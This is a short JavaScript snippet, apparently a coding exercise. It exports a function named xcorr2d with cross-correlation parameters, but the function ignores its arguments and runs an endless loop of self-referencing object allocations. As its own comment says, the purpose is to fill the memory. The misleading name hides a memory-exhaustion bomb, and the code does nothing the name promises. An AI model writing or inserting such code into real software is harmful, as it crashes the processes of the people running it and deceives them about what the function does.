// exercise: b-cross-correlation loops
// Fills the memory with objects that point to each other.
export function xcorr2d(x, w, stride, pad) {
  let last = null;
  for (;;) last = { last, more: [last] };
}
